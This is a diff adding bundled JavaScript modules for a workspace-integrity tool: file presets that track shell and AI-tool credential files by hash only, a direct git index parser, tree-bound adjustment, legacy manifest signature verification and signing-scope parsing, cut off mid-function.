+ * tracked by hash, never escrowed.
+ *
+ * Left out on purpose: files the tools rewrite on every run (~/.claude.json with its counters and
+ * per-project history, session logs, histories, caches), because a hash of them would fail every
+ * check; and large installed payloads (extensions) that a reinstall brings back.
+ */
+
+
+
+
+
+
+
+
+const PRESETS = [
+    {
+        name: 'shell',
+        description: 'shell profiles, git and ssh configuration, and the logins a shell uses',
+        paths: [
+            '.bashrc',
+            '.bash_profile',
+            '.bash_login',
+            '.bash_logout',
+            '.bash_aliases',
+            '.profile',
+            '.zshrc',
+            '.zshenv',
+            '.zprofile',
+            '.zlogin',
+            '.inputrc',
+            '.vimrc',
+            '.tmux.conf',
+            '.config/fish/config.fish',
+            '.config/fish/functions',
+            '.gitconfig',
+            '.config/git/config',
+            '.config/git/ignore',
+            '.ssh/config',
+            '.ssh/authorized_keys',
+            '.ssh/id_*',
+            '.netrc',
+            '.git-credentials',
+            '.npmrc',
+            '.pypirc',
+            '.config/gh/config.yml',
+            '.config/gh/hosts.yml'
+        ]
+    },
+    {
+        name: 'claude-code',
+        description: 'Claude Code: user settings, memory, commands, agents, skills, hooks, login',
+        paths: [
+            '.claude/settings.json',
+            '.claude/settings.local.json',
+            '.claude/CLAUDE.md',
+            '.claude/commands',
+            '.claude/agents',
+            '.claude/skills',
+            '.claude/hooks',
+            '.claude/rules',
+            '.claude/output-styles',
+            '.claude/.credentials.json'
+        ]
+    },
+    {
+        name: 'codex',
+        description: 'OpenAI Codex CLI: config.toml, AGENTS.md, prompts, skills, rules, login',
+        paths: [
+            '.codex/config.toml',
+            '.codex/AGENTS.md',
+            '.codex/AGENTS.override.md',
+            '.codex/prompts',
+            '.codex/agents',
+            '.codex/skills',
+            '.codex/rules',
+            '.codex/auth.json'
+        ]
+    },
+    {
+        name: 'aider',
+        description: 'aider: its configuration files and the .env holding API keys',
+        paths: ['.aider.conf.yml', '.aider.model.settings.yml', '.aider.model.metadata.json', '.env']
+    },
+    {
+        name: 'cursor',
+        description: 'Cursor: MCP servers, CLI config, editor settings, keybindings, snippets',
+        paths: [
+            '.cursor/mcp.json',
+            '.cursor/cli-config.json',
+            '.cursor/rules',
+            '.config/Cursor/User/settings.json',
+            '.config/Cursor/User/keybindings.json',
+            '.config/Cursor/User/snippets'
+        ]
+    },
+    {
+        name: 'gemini',
+        description: 'Gemini CLI: settings, GEMINI.md, commands, login',
+        paths: [
+            '.gemini/settings.json',
+            '.gemini/GEMINI.md',
+            '.gemini/commands',
+            '.gemini/oauth_creds.json'
+        ]
+    }
+];
+function presetNamed(name) {
+    const p = PRESETS.find(x => x.name === name);
+    if (!p)
+        throw new UsageError(`preset "${name}": unknown (known: ${PRESETS.map(x => x.name).join(', ')})`);
+    return p;
+}
+
+function planPreset(workspace, preset, entries) {
+    const cov = coverageOf(entries);
+    const plan = { requests: [], skipped: [], absent: 0 };
+    for (const rel of preset.paths.flatMap(p => presets_expand(workspace, p))) {
+        const loc = locateInside(workspace, rel);
+        if (loc.state === 'missing')
+            plan.absent++;
+        else if (loc.state === 'escapes')
+            plan.skipped.push({ path: rel, why: loc.why });
+        else {
+            const by = cov.trackedBy(rel);
+            const st = loc.st;
+            if (by)
+                plan.skipped.push({ path: rel, why: `already tracked by "${by.id}"` });
+            else if (!st.isFile() && !st.isDirectory() && !st.isSymbolicLink())
+                plan.skipped.push({ path: rel, why: 'not a file, directory or symlink' });
+            else
+                plan.requests.push(requestFor(rel, st.isFile(), st.isDirectory()));
+        }
+    }
+    return plan;
+}
+function requestFor(rel, isFile, isDir) {
+    if (isSecretPath(rel))
+        return { path: rel, ...(isFile ? { kind: 'file' } : {}), tier: 0, note: SECRET_NOTE };
+    return isDir ? { path: rel, kind: 'tree', ignore: [...VCS_DIRS] } : { path: rel };
+}
+/** A preset path, or the names its glob matches now (sorted). */
+function presets_expand(workspace, p) {
+    const base = path.posix.basename(p);
+    if (!/[*?[]/.test(base))
+        return [p];
+    const dir = path.posix.dirname(p);
+    const match = picomatch(base, { dot: true });
+    return listDir(path.join(workspace, dir))
+        .filter(n => match(n))
+        .map(n => `${dir}/${n}`);
+}
+
+;// CONCATENATED MODULE: ./src/core/author/retighten.ts
+/**
+ * `retighten`: raise loose tree bounds to what is on disk now, never loosening them. A tree's
+ * min_files goes up to the current file count when that is higher, and its max_files comes down
+ * to the current count when that is lower (or is set when there was none). Only trees that verify
+ * right now are touched: a damaged tree's count is the damage, not the truth.
+ */
+
+
+/** The trees `only` names (every tree without it); a named entry that is no tree is bad usage. */
+function treesToRetighten(entries, only) {
+    const selected = selectEntries(entries, only);
+    const notTrees = only && only.length > 0 ? selected.filter(e => e.kind !== 'tree') : [];
+    const first = notTrees[0];
+    if (first)
+        throw new UsageError(`--only ${first.id}: a ${first.kind} entry has no file-count bounds (retighten changes trees only)`);
+    return selected.filter((e) => e.kind === 'tree');
+}
+/** What to change, given each tree's finding from a check made just now. */
+function planRetighten(trees, findings) {
+    const byId = new Map(findings.map(f => [f.id, f]));
+    const plan = { changes: [], skipped: [] };
+    for (const e of trees) {
+        const f = byId.get(e.id);
+        const files = f?.found.files;
+        if (!f || f.status !== 'OK' || typeof files !== 'number') {
+            const why = f ? `${f.status}: ${f.detail}` : 'not checked';
+            plan.skipped.push({ id: e.id, why: `does not verify now (${why}); repair it first` });
+            continue;
+        }
+        plan.changes.push(...boundChanges(e, files));
+    }
+    return plan;
+}
+function boundChanges(e, files) {
+    const out = [];
+    if (files > e.expect.min_files)
+        out.push({ id: e.id, field: 'min_files', from: e.expect.min_files, to: files });
+    const max = e.expect.max_files;
+    if (max === undefined || files < max)
+        out.push({
+            id: e.id,
+            field: 'max_files',
+            from: max ?? null,
+            to: Math.max(files, e.expect.min_files)
+        });
+    return out;
+}
+/** Apply `changes` to the entries in place. */
+function applyRetighten(entries, changes) {
+    const byId = new Map(entries.map(e => [e.id, e]));
+    for (const c of changes) {
+        const e = byId.get(c.id);
+        if (e?.kind === 'tree')
+            e.expect[c.field] = c.to;
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/face/author.ts
+// The `author` namespace of the engine's face (src/core/index.ts): what only the shells compose.
+
+
+
+
+
+
+
+;// CONCATENATED MODULE: ./src/core/face/canary.ts
+// The `canary` namespace of the engine's face (src/core/index.ts): what only the shells compose.
+
+
+
+
+
+
+;// CONCATENATED MODULE: ./src/core/capture/recapture.ts
+/**
+ * Capturing an entry again after it changed on purpose: new expectations from disk, everything the
+ * author declared (recipes, needs, env, note, ignore rules) kept. A tree's sentinels that are gone
+ * are dropped (new ones picked when none is left); bounds that followed the old file count follow
+ * the new one, and bounds set by hand are kept unless the new count falls outside them.
+ */
+
+
+
+async function recaptureEntry(workspace, entry, taken, opts, 
+/** Keep the entry's sentinels as they are: a missing one is refused, not dropped. */
+how = {}) {
+    const others = new Set(taken);
+    others.delete(entry.id);
+    const tree = entry.kind === 'tree' ? entry : undefined;
+    const c = await capture_captureEntry(workspace, {
+        path: entry.path,
+        id: entry.id,
+        kind: entry.kind,
+        tier: entry.tier,
+        ...(tree
+            ? {
+                ignore: tree.ignore,
+                sentinels: how.exactSentinels ? tree.expect.sentinels : liveSentinels(workspace, tree)
+            }
+            : {}),
+        ...(entry.kind === 'blob' ? { fullHash: entry.expect.sha256 !== undefined } : {})
+    }, others, opts);
+    const expect = tree && c.entry.kind === 'tree' ? bounds(tree, c.entry) : c.entry.expect;
+    const next = { ...entry, expect };
+    return c.index ? { entry: next, index: c.index } : { entry: next };
+}
+function liveSentinels(workspace, tree) {
+    const root = locate_entry_locateInside(workspace, tree.path);
+    if (root.state !== 'present' || !root.st.isDirectory())
+        return tree.expect.sentinels;
+    const real = external_node_fs_default().realpathSync(root.abs);
+    const live = tree.expect.sentinels.filter(s => {
+        const loc = locate_entry_locateInside(real, s);
+        return loc.state === 'present' && (!loc.st.isFile() || loc.st.size > 0n);
+    });
+    return live.length > 0 || tree.expect.sentinels.length === 0 ? live : undefined;
+}
+function bounds(old, now) {
+    const files = now.expect.files ?? 0;
+    const was = old.expect.files;
+    const min = was === undefined || old.expect.min_files === was ? files : old.expect.min_files;
+    const oldMax = old.expect.max_files;
+    const max = oldMax === undefined || oldMax === was ? files : oldMax;
+    return { ...now.expect, min_files: Math.min(min, files), max_files: Math.max(max, files) };
+}
+
+;// CONCATENATED MODULE: ./src/core/face/capture.ts
+// The `capture` namespace of the engine's face (src/core/index.ts): what only the shells compose.
+
+
+
+
+
+
+
+;// CONCATENATED MODULE: ./src/core/git/index-file.ts
+/**
+ * The paths git tracks, read from the repository's index file as data. Running `git ls-files`
+ * would run the workspace's own configuration (a `core.fsmonitor` there is a command, and
+ * `.git/config` is a file that a cache restore or an earlier step can write), inside a step that
+ * holds the job's secrets. Reading the index runs nothing.
+ *
+ * Handled: index versions 2, 3 and 4 (prefix-compressed names), SHA-1 and SHA-256 repositories,
+ * sparse directory entries (reported as the directory, with a trailing "/"), a `.git` file that
+ * points at the real git directory (worktrees, submodules), and a split index (the shared index's
+ * entries are included too: a path it deleted may then count as tracked, which only widens where
+ * an annotation may point). Anything that does not parse gives the empty set: tracked paths are
+ * an aid to annotations, never a decision.
+ */
+
+
+
+/** A larger index is not read (the Linux kernel's is ~10 MB). */
+const index_file_MAX_INDEX_BYTES = 256 * 1024 * 1024;
+const MAX_POINTER_BYTES = 4096;
+/** The git directory for a work tree whose top is `top`, or undefined. Never follows `.git` when it is a link. */
+function gitDirOf(top) {
+    const dotGit = external_node_path_default().join(top, '.git');
+    const st = external_node_fs_default().lstatSync(dotGit, { throwIfNoEntry: false });
+    if (!st)
+        return undefined;
+    if (st.isDirectory())
+        return dotGit;
+    if (!st.isFile() || st.size > MAX_POINTER_BYTES)
+        return undefined;
+    const m = /^gitdir: (.+?)\r?\n?$/.exec(external_node_fs_default().readFileSync(dotGit, 'utf8'));
+    return m?.[1] ? external_node_path_default().resolve(top, m[1]) : undefined;
+}
+/** The nearest directory at or above `start` holding `.git`. */
+function workTreeTop(start) {
+    for (let dir = external_node_path_default().resolve(start);; dir = external_node_path_default().dirname(dir)) {
+        if (external_node_fs_default().lstatSync(external_node_path_default().join(dir, '.git'), { throwIfNoEntry: false }))
+            return dir;
+        if (external_node_path_default().dirname(dir) === dir)
+            return undefined;
+    }
+}
+function index_file_readBounded(file) {
+    let fd;
+    try {
+        fd = external_node_fs_default().openSync(file, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NOFOLLOW);
+    }
+    catch {
+        return undefined;
+    }
+    try {
+        const st = external_node_fs_default().fstatSync(fd);
+        if (!st.isFile() || st.size > index_file_MAX_INDEX_BYTES)
+            return undefined;
+        return external_node_fs_default().readFileSync(fd);
+    }
+    finally {
+        external_node_fs_default().closeSync(fd);
+    }
+}
+/** The repository's hash length, from its configuration read as text (nothing in it runs). */
+function hashBytes(gitDir) {
+    const commonFile = external_node_path_default().join(gitDir, 'commondir');
+    let configDir = gitDir;
+    const common = external_node_fs_default().lstatSync(commonFile, { throwIfNoEntry: false });
+    if (common?.isFile() && common.size < MAX_POINTER_BYTES)
+        configDir = external_node_path_default().resolve(gitDir, external_node_fs_default().readFileSync(commonFile, 'utf8').trim());
+    const config = index_file_readBounded(external_node_path_default().join(configDir, 'config'));
+    return config && /^\s*objectformat\s*=\s*sha256\s*$/im.test(config.toString('utf8')) ? 32 : 20;
+}
+/** git's offset varint (index v4 name compression). */
+function varint(buf, at) {
+    let c = buf[at++];
+    let value = c & 127;
+    while (c & 128) {
+        c = buf[at++];
+        value = ((value + 1) << 7) | (c & 127);
+    }
+    return [value, at];
+}
+const ENTRY_FIXED = 40; // ctime, mtime, dev, ino, mode, uid, gid, size: ten 32-bit words
+const EXTENDED = 0x4000;
+const S_IFMT = 0o170000;
+const S_IFDIR = 0o040000;
+/** Parse one index file; throws on anything malformed. */
+function parseIndex(buf, hashLen) {
+    if (buf.length < 12 + hashLen || buf.toString('latin1', 0, 4) !== 'DIRC')
+        throw new Error('not an index');
+    const version = buf.readUInt32BE(4);
+    if (version < 2 || version > 4)
+        throw new Error(`index version ${version}`);
+    const trailer = buf.subarray(buf.length - hashLen);
+    const body = buf.subarray(0, buf.length - hashLen);
+    // index.skipHash writes a zero trailer; any other trailer must be the body's hash.
+    if (trailer.some(b => b !== 0)) {
+        const algo = hashLen === 32 ? 'sha256' : 'sha1';
+        if (!(0,external_node_crypto_.createHash)(algo).update(body).digest().equals(trailer))
+            throw new Error('bad checksum');
+    }
+    const count = buf.readUInt32BE(8);
+    const paths = [];
+    let at = 12;
+    let prev = Buffer.alloc(0);
+    for (let i = 0; i < count; i++) {
+        const start = at;
+        const mode = body.readUInt32BE(at + 24);
+        at += ENTRY_FIXED + hashLen;
+        const flags = body.readUInt16BE(at);
+        at += 2;
+        if (flags & EXTENDED) {
+            if (version < 3)
+                throw new Error('extended flag in a version 2 index');
+            at += 2;
+        }
+        let name;
+        if (version === 4) {
+            const [strip, next] = varint(body, at);
+            if (strip > prev.length)
+                throw new Error('bad name compression');
+            const end = body.indexOf(0, next);
+            if (end < 0)
+                throw new Error('unterminated name');
+            name = Buffer.concat([prev.subarray(0, prev.length - strip), body.subarray(next, end)]);
+            at = end + 1;
+        }
+        else {
+            const nul = body.indexOf(0, at);
+            if (nul < 0)
+                throw new Error('unterminated name');
+            name = body.subarray(at, nul);
+            // Entries are padded with 1-8 NULs to a multiple of eight bytes.
+            at = start + ((nul - start + 8) & ~7);
+        }
+        if (at > body.length)
+            throw new Error('entry past the end');
+        prev = name;
+        const p = name.toString('utf8');
+        paths.push((mode & S_IFMT) === S_IFDIR && !p.endsWith('/') ? `${p}/` : p);
+    }
+    return { paths, ...sharedIndexOf(body, at) };
+}
+/** The split index's `link` extension names the shared index by its hash. */
+function sharedIndexOf(body, at) {
+    while (at + 8 <= body.length) {
+        const sig = body.toString('latin1', at, at + 4);
+        const size = body.readUInt32BE(at + 4);
+        if (sig === 'link' && size >= 20) {
+            const len = size >= 32 && size % 32 === 0 ? 32 : 20;
+            return { shared: body.toString('hex', at + 8, at + 8 + len) };
+        }
+        at += 8 + size;
+    }
+    return {};
+}
+/**
+ * Paths tracked by the git work tree that holds `root`, relative to `root` with forward slashes
+ * (paths outside `root` are left out). Empty when there is no repository or its index cannot be
+ * read.
+ */
+function trackedPaths(root) {
+    const top = workTreeTop(root);
+    const gitDir = top === undefined ? undefined : gitDirOf(top);
+    if (top === undefined || gitDir === undefined)
+        return new Set();
+    try {
+        const hashLen = hashBytes(gitDir);
+        const index = index_file_readBounded(external_node_path_default().join(gitDir, 'index'));
+        if (!index)
+            return new Set();
+        const own = parseIndex(index, hashLen);
+        let all = own.paths;
+        if (own.shared && /^[0-9a-f]+$/.test(own.shared)) {
+            const shared = index_file_readBounded(external_node_path_default().join(gitDir, `sharedindex.${own.shared}`));
+            if (shared)
+                all = [...parseIndex(shared, hashLen).paths, ...all];
+        }
+        const prefix = external_node_path_default().relative(top, external_node_path_default().resolve(root)).split((external_node_path_default()).sep).join('/');
+        const under = prefix === '' ? '' : `${prefix}/`;
+        const out = new Set();
+        for (const p of all)
+            if (p.startsWith(under))
+                out.add(p.slice(under.length));
+        return out;
+    }
+    catch {
+        return new Set();
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/history/advice.ts
+
+/** Only a pattern is worth a line: at least two losses, and at least 30% of the window. */
+function isPattern(c) {
+    return c.lost >= 2 && c.lost / c.of >= 0.3;
+}
+function historyAdvice(e, c) {
+    if (!isPattern(c))
+        return undefined;
+    const ideas = [];
+    if (e.tier > 0)
+        ideas.push(`a lower tier than ${e.tier} so it is restored before what needs it`);
+    if (!types_restoreSources(e).some(s => typeof s !== 'string'))
+        ideas.push('a cache source ("restore": [{"cache": {...}}, ...]) so it comes back from the Actions cache');
+    if (e.kind === 'file' && !e.escrow && e.expect.size <= 256 * 1024)
+        ideas.push('escrow ("swr escrow --only ' + e.id + '") so it restores without a recipe');
+    const base = `damaged in ${c.lost} of the last ${c.of} recorded checks: this platform does not keep it`;
+    return ideas.length > 0 ? `${base}; consider ${ideas.join(', or ')}` : base;
+}
+
+;// CONCATENATED MODULE: ./src/core/face/history.ts
+// The `history` namespace of the engine's face (src/core/index.ts): what only the shells compose.
+
+
+
+
+
+;// CONCATENATED MODULE: ./src/core/manifest/legacy-signature.ts
+/**
+ * Checking the original tool's HMAC signature on a format-2 manifest, so `swr import` can carry
+ * trust over. Its signing input was Python's json.dumps(manifest without _sig/_pksig,
+ * sort_keys=True, separators=(",", ":"), ensure_ascii=False), and its key the 64 ASCII hex
+ * characters of its key file, used as text (not decoded). Its ML-DSA-87 signature (`_pksig`,
+ * made with OpenSSL: pure ML-DSA, empty context) covers the same bytes; the signer's public key
+ * comes from the user (--legacy-pubkey), never from the manifest.
+ */
+
+/** Python's code-point order (JavaScript's default sort compares UTF-16 units). */
+function byCodePoint(a, b) {
+    const x = [...a];
+    const y = [...b];
+    for (let i = 0; i < Math.min(x.length, y.length); i++) {
+        const d = (x[i]?.codePointAt(0) ?? 0) - (y[i]?.codePointAt(0) ?? 0);
+        if (d !== 0)
+            return d;
+    }
+    return x.length - y.length;
+}
+/**
+ * json.dumps(v, sort_keys=True, separators=(",", ":"), ensure_ascii=False). JSON.stringify escapes
+ * strings exactly as Python does with ensure_ascii=False (quote, backslash, \b\f\n\r\t, other
+ * controls as lowercase \u00xx); the strict reader has already refused floats and lone surrogates.
+ */
+function pythonCanonical(v) {
+    if (v === null || typeof v !== 'object')
+        return JSON.stringify(v);
+    if (Array.isArray(v))
+        return `[${v.map(pythonCanonical).join(',')}]`;
+    const keys = Object.keys(v).sort(byCodePoint);
+    return `{${keys.map(k => `${JSON.stringify(k)}:${pythonCanonical(v[k])}`).join(',')}}`;
+}
+function signedText(v2) {
+    const body = {};
+    for (const [k, x] of Object.entries(v2))
+        if (k !== '_sig' && k !== '_pksig')
+            body[k] = x;
+    return pythonCanonical(body);
+}
+const MLDSA87_PUBLIC_KEY_BYTES = 2592;
+const MLDSA87_SIGNATURE_BYTES = 4627;
+/** DER prefix of an ML-DSA-87 SubjectPublicKeyInfo (OpenSSL's PEM public key). */
+const SPKI_PREFIX = Buffer.from('30820a32300b060960864801650304031303820a2100', 'hex');
+/**
+ * The original signer's public key from a file: PEM (as OpenSSL writes it), or the raw key in
+ * base64 or hex. Undefined when it is none of these.
+ */
+function parseLegacyPublicKey(text) {
+    const pem = /-----BEGIN PUBLIC KEY-----([\s\S]*?)-----END PUBLIC KEY-----/.exec(text);
+    const compact = (pem ? (pem[1] ?? '') : text).replace(/\s+/g, '');
+    const raw = /^[0-9a-fA-F]+$/.test(compact)
+        ? Buffer.from(compact, 'hex')
+        : Buffer.from(compact, 'base64');
+    if (raw.length === MLDSA87_PUBLIC_KEY_BYTES)
+        return raw;
+    if (raw.length === SPKI_PREFIX.length + MLDSA87_PUBLIC_KEY_BYTES &&
+        raw.subarray(0, SPKI_PREFIX.length).equals(SPKI_PREFIX))
+        return raw.subarray(SPKI_PREFIX.length);
+    return undefined;
+}
+/** Check a format-2 document's `_pksig` (its `sig` or `value`, base64 or hex) under `publicKey`. */
+async function verifyLegacyMldsa(v2, publicKey) {
+    const s = v2._pksig;
+    if (typeof s !== 'object' || s === null || Array.isArray(s))
+        return 'absent';
+    const text = s.sig ?? s.value;
+    if (typeof text !== 'string' || text.length > 2 * MLDSA87_SIGNATURE_BYTES)
+        return 'invalid';
+    const sig = /^[0-9a-fA-F]+$/.test(text) ? Buffer.from(text, 'hex') : Buffer.from(text, 'base64');
+    if (sig.length !== MLDSA87_SIGNATURE_BYTES)
+        return 'invalid';
+    const { ml_dsa87 } = await __webpack_require__.e(/* import() */ 925).then(__webpack_require__.bind(__webpack_require__, 4925));
+    try {
+        const msg = Buffer.from(signedText(v2), 'utf8');
+        return ml_dsa87.verify(sig, msg, publicKey) ? 'valid' : 'invalid';
+    }
+    catch {
+        return 'invalid';
+    }
+}
+/** Check a format-2 document's `_sig` against the original tool's key file text. */
+function verifyLegacyHmac(v2, keyFileText) {
+    const sig = v2._sig;
+    if (typeof sig !== 'object' || sig === null || Array.isArray(sig))
+        return 'absent';
+    const value = sig.value;
+    if (typeof value !== 'string' || !/^[0-9a-fA-F]{64}$/.test(value))
+        return 'invalid';
+    const key = Buffer.from(keyFileText.trim(), 'utf8');
+    const want = createHmac('sha256', key).update(signedText(v2), 'utf8').digest();
+    return timingSafeEqual(want, Buffer.from(value, 'hex')) ? 'valid' : 'invalid';
+}
+
+;// CONCATENATED MODULE: ./src/core/manifest/entry-edit.ts
+/**
+ * Changing an entry's declared fields (recipes, cache sources, environment, smoke, needs, tier,
+ * note, tree bounds, ignore rules, sentinels) without touching what was captured from disk, and
+ * saying exactly what changed. Pure: the caller loads, validates and saves.
+ */
+
+
+/** Apply `edit` to a copy of `entry`. Throws UsageError naming the flag when it cannot apply. */
+function applyEdit(entry, edit) {
+    const out = structuredClone(entry);
+    const treeOnly = (flag) => {
+        if (out.kind !== 'tree')
+            throw new UsageError(`${flag}: entry "${entry.id}" is a ${entry.kind}; only trees have it`);
+    };
+    setRestore(out, edit);
+    setList(out, 'env', edit.env, '--env', entry.id);
+    setList(out, 'secret_env', edit.secretEnv, '--secret-env', entry.id);
+    out.needs = editList(out.needs, edit.needs, '--needs', entry.id);
+    setScalar(out, 'timeout_s', edit.timeout, edit.clearTimeout);
+    setScalar(out, 'smoke', edit.smoke, edit.clearSmoke);
+    setScalar(out, 'smoke_timeout_s', edit.smokeTimeout, edit.clearSmokeTimeout || edit.clearSmoke);
+    setScalar(out, 'note', edit.note, edit.clearNote);
+    if (edit.tier !== undefined)
+        out.tier = edit.tier;
+    if (edit.minFiles !== undefined || edit.maxFiles !== undefined || edit.clearMaxFiles) {
+        treeOnly(edit.minFiles !== undefined ? '--min-files' : '--max-files');
+    }
+    if (edit.ignore)
+        treeOnly('--ignore');
+    if (edit.sentinels)
+        treeOnly('--sentinel');
+    if (out.kind === 'tree') {
+        if (edit.minFiles !== undefined)
+            out.expect.min_files = edit.minFiles;
+        if (edit.clearMaxFiles)
+            delete out.expect.max_files;
+        if (edit.maxFiles !== undefined)
+            out.expect.max_files = edit.maxFiles;
+        out.ignore = editList(out.ignore, edit.ignore, '--ignore', entry.id);
+        out.expect.sentinels = editList(out.expect.sentinels, edit.sentinels, '--sentinel', entry.id);
+    }
+    return out;
+}
+/**
+ * A tree's recorded file count outside its own bounds fails every check of a healthy tree: refuse
+ * it when authoring, naming the bound.
+ */
+function boundsProblem(e) {
+    if (e.kind !== 'tree' || e.expect.files === undefined)
+        return undefined;
+    const { files, min_files: min, max_files: max } = e.expect;
+    if (files < min)
+        return `entry "${e.id}" field expect.min_files: ${min} is above the ${files} files the tree holds`;
+    if (max !== undefined && files > max)
+        return `entry "${e.id}" field expect.max_files: ${max} is below the ${files} files the tree holds`;
+    return undefined;
+}
+function setScalar(out, key, value, clear) {
+    if (clear)
+        delete out[key];
+    if (value !== undefined)
+        out[key] = value;
+}
+function setList(out, key, edit, flag, id) {
+    if (!edit)
+        return;
+    const next = editList(out[key] ?? [], edit, flag, id);
+    if (next.length === 0)
+        delete out[key];
+    else
+        out[key] = next;
+}
+function editList(current, edit, flag, id) {
+    if (!edit)
+        return [...current];
+    let next = edit.clear ? [] : [...current];
+    for (const d of edit.drop ?? []) {
+        if (!next.includes(d))
+            throw new UsageError(`--drop-${flag.slice(2)} ${d}: entry "${id}" has no such item`);
+        next = next.filter(x => x !== d);
+    }
+    for (const a of edit.add ?? [])
+        if (!next.includes(a))
+            next.push(a);
+    return next;
+}
+function setRestore(out, edit) {
+    if (!edit.clearRestore && edit.restore === undefined && !edit.addCache)
+        return;
+    let sources = edit.clearRestore ? [] : [...restoreSources(out)];
+    if (edit.restore !== undefined) {
+        sources = [...sources.filter(s => typeof s !== 'string'), edit.restore];
+    }
+    if (edit.addCache) {
+        const key = edit.addCache.key;
+        if (sources.some(s => typeof s !== 'string' && s.cache.key === key))
+            throw new UsageError(`--add-source-cache ${key}: entry "${out.id}" already has that cache`);
+        const cache = {
+            cache: {
+                key,
+                ...(edit.addCache.restoreKeys.length > 0
+                    ? { 'restore-keys': edit.addCache.restoreKeys }
+                    : {})
+            }
+        };
+        // Caches are tried before recipes: restoring a cache is cheaper than rebuilding.
+        const firstRecipe = sources.findIndex(s => typeof s === 'string');
+        if (firstRecipe < 0)
+            sources.push(cache);
+        else
+            sources.splice(firstRecipe, 0, cache);
+    }
+    if (sources.length === 0)
+        delete out.restore;
+    else if (sources.length === 1 && typeof sources[0] === 'string')
+        out.restore = sources[0];
+    else
+        out.restore = sources;
+}
+/** Field-by-field differences between two versions of an entry (`expect` field by field). */
+function diffEntry(before, after) {
+    const out = [];
+    const a = before;
+    const b = after;
+    for (const key of unionKeys(a, b)) {
+        if (key === 'expect') {
+            const ea = a.expect;
+            const eb = b.expect;
+            for (const k of unionKeys(ea, eb))
+                if (!same(ea[k], eb[k]))
+                    out.push({ field: `expect.${k}`, before: ea[k], after: eb[k] });
+        }
+        else if (!same(a[key], b[key])) {
+            out.push({ field: key, before: entry_edit_summarise(key, a[key]), after: entry_edit_summarise(key, b[key]) });
+        }
+    }
+    return out;
+}
+function unionKeys(a, b) {
+    return [...new Set([...Object.keys(a), ...Object.keys(b)])];
+}
+function same(x, y) {
+    return JSON.stringify(x) === JSON.stringify(y);
+}
+/** Escrowed bytes are long and not for reading: shown by their encoded length. */
+function entry_edit_summarise(key, v) {
+    if (key !== 'escrow' || v === undefined)
+        return v;
+    const data = v.data;
+    return `${typeof data === 'string' ? data.length : 0} characters escrowed`;
+}
+
+;// CONCATENATED MODULE: ./src/core/face/manifests.ts
+// The `manifests` namespace of the engine's face (src/core/index.ts): what only the shells compose.
+
+
+
+
+
+
+
+
+
+
+
+
+
+;// CONCATENATED MODULE: ./src/core/face/scrub.ts
+// The `scrub` namespace of the engine's face (src/core/index.ts): what only the shells compose.
+
+
+
+;// CONCATENATED MODULE: ./src/core/sign/scope-spec.ts
+/**
+ * The signed scope and expiry as a signer spells them on the command line:
+ *   --scope repo=OWNER/NAME,ref=refs/heads/main,path=.swr/manifest.json   (or "none")
+ *   --scope repo=OWNER/NAME --scope ref=refs/heads/main                   (the same as one list)
+ *   --expires 30d | 12h | 2w | 2026-12-31 | 2026-12-31T00:00:00Z            (or "never")
+ * Each part is checked against what the gate compares it with, so a scope that can never match
+ * (a ref without refs/, a path other than the manifest's own) is refused before it is signed.
+ */
+
+
+const REPO = /^[A-Za-z0-9_.-]+\/[A-Za-z0-9_.-]+$/;
+const KEYS = {
+    repo: 'repository',
+    repository: 'repository',
+    ref: 'ref',
+    path: 'manifest_path',
+    manifest_path: 'manifest_path'
+};
+/**
+ * `specs` (each --scope given, in order) as one scope; undefined for "none". Every part narrows
+ * where the manifest may run, so repeated --scope flags add their parts, as a comma does: keeping
+ * only the last would silently drop a limit the signer asked for. `ownPath` is the manifest's path
+ * relative to its workspace (undefined when it lies outside): `path` alone means that path.
+ */
+function parseScope(specs, ownPath) {
+    const list = typeof specs === 'string' ? [specs] : specs;
+    if (list.includes('none')) {
+        if (list.length > 1)
+            throw new errors_UsageError('--scope none removes the scope: give it alone, not beside other parts');
+        return undefined;
+    }
+    const scope = {};
+    for (const part of list.flatMap(s => s.split(','))) {
+        const eq = part.indexOf('=');
+        const name = eq < 0 ? part : part.slice(0, eq);
+        const value = eq < 0 ? '' : part.slice(eq + 1);
+        const key = KEYS[name.trim()];
+        if (!key)
+            throw new errors_UsageError(`--scope: unknown part "${name}" (use repo=, ref= and path=, or none)`);
+        if (scope[key] !== undefined)
+            throw new errors_UsageError(`--scope: ${name} given twice`);
+        scope[key] = checkPart(key, value.trim(), ownPath);
+    }
+    return scope;
+}
+function checkPart(key, v, ownPath) {
+    switch (key) {
+        case 'repository':
+            if (!REPO.test(v))
+                throw new errors_UsageError(`--scope repo=${v}: must be OWNER/NAME`);
+            return v;
+        case 'ref':
+            if (!v.startsWith('refs/') || v.length > 256)
+                throw new errors_UsageError(`--scope ref=${v}: must be a full ref or glob of at most 256 characters, e.g. refs/heads/main or refs/tags/v*`);
+            try {
+                picomatch_default().makeRe(v, { dot: true });
+            }
+            catch {
+                throw new errors_UsageError(`--scope ref=${v}: not a valid glob`);
+            }
+            return v;
+        case 'manifest_path':
+            if (ownPath === undefined)
+                throw new errors_UsageError('--scope path: the manifest lies outside its workspace, so no run could match a path scope');
+            if (v !== '' && v !== ownPath)
+                throw new errors_UsageError(`--scope path=${v}: this manifest is read from ${ownPath}; a path scope naming another path never matches`);
+            return ownPath;
+    }
+}
+const UNIT_MS = { h: 3600e3, d: 86400e3, w: 7 * 86400e3 };
+/** Longest expiry a signer may set: ten years. */
+const MAX_MS = 3653 * 86400e3;
+/** `spec` as an expiry timestamp after `now`; undefined for "never". */
+function parseExpiry(spec, now) {
+    if (spec === 'never')
+        return undefined;
+    let at;
+    const rel = /^(\d{1,6})([hdw])$/.exec(spec);
+    if (rel)
+        at = now.getTime() + Number(rel[1]) * UNIT_MS[rel[2]];
+    else if (/^\d{4}-\d{2}-\d{2}(T\d{2}:\d{2}:\d{2}Z)?$/.test(spec)) {
+        const full = spec.length === 10 ? `${spec}T00:00:00Z` : spec;
+        at = Date.parse(full);
+        // Date.parse rolls 2026-02-30 over to March: a real date reads back the same.
+        if (Number.isNaN(at) || new Date(at).toISOString().slice(0, 19) !== full.slice(0, 19))
+            throw new errors_UsageError(`--expires ${spec}: not a real date`);
+    }
+    else
+        throw new errors_UsageError(`--expires ${spec}: give a duration (12h, 30d, 2w), a date (2026-12-31), a UTC time (2026-12-31T00:00:00Z) or never`);
+    if (at <= now.getTime())
+        throw new errors_UsageError(`--expires ${spec}: is not in the future`);
+    if (at - now.getTime() > MAX_MS)
